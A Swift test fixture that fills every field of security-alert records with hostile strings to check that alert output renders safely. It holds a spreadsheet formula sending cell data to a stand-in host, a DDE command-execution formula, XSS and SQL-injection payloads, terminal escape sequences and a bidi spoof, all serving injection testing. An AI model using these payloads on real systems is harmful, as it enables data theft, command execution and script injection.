import TrailDetect
import TrailEvents

/// Alerts whose every text somebody chose to do harm with.
enum HostileAlerts {
  /// Texts that act on spreadsheets, pages, tickets, terminals or their readers.
  static let texts = [
    "=HYPERLINK(\"http://192.0.2.66/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1",
    "\r=1",
    "  =1", "＝1", "<script>alert(1)</script>", "</style><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)", "' or '1'='1", "](https://192.0.2.66) [x", "`` ``` `", "`",
    "| a | b |",
    "# heading\n- list", "![x](http://192.0.2.66/x.png)", "@everyone https://192.0.2.66/",
    "{0} {{1}} {x}",
    "\u{1B}]0;owned\u{07}\u{1B}[2J", "user/\u{202E}ecila\u{2066}", "a\u{0}b\u{7F}c\u{85}d\u{2028}e",
    "line\r\nanother,\"cell\"", "&lt;b&gt;&amp;", "", "   ", "\u{FEFF}\u{200B}", "ünïcödé 東京 🦉",
    String(repeating: "very long ", count: 700), String(repeating: "🦉", count: 600), "\\", "\\[",
    "%s%n",
    "javascript:alert(1)", "arn:aws:iam::111122223333:user/<b>", "arn:x:y:z:a:b:c",
  ]

  /// An alert with the text in every place that a log or a rule fills.
  static func alert(_ text: String, number: Int = 0) -> Alert {
    let digits = String(number, radix: 16)
    let values = AlertFacet(values: [AlertFacet.Value(text: text, count: 2)])
    let several = AlertFacet(
      values: [
        AlertFacet.Value(text: text, count: 2), AlertFacet.Value(text: "b\(text)", count: 1),
      ], valuesLeftOut: 3)
    let time = Timestamp(milliseconds: 1_772_651_527_000)
    return Alert(
      id: String(repeating: "0", count: 32 - digits.count) + digits,
      rule: RuleSummary(
        id: "hostile-\(number)", title: text, severity: Severity.allCases[number % 5],
        tags: ["attack.t1098.003", "attack.persistence", text], themes: [text],
        response: [text, text],
        description: text, references: [text, "https://docs.aws.amazon.com/?a=1&b=2"],
        falsePositives: [text]),
      first: time, last: Timestamp(milliseconds: time.milliseconds + 1500), count: 3,
      group: [AlertGroupValue(key: "aws:PrincipalArn", value: text)], principal: values,
      account: number % 2 == 0 ? values : AlertFacet(), region: several, source: values,
      action: number % 3 == 0 ? several : values, outcome: values, resource: several, notes: values,
      events: [
        AlertEvent(eventID: text, eventTime: time, file: "logs/\(text)", record: 1, offset: 0)
      ],
      summary: "\(text) called \(text)")
  }

  /// One alert for each of the texts.
  static let all = texts.enumerated().map { alert($0.element, number: $0.offset) }
}
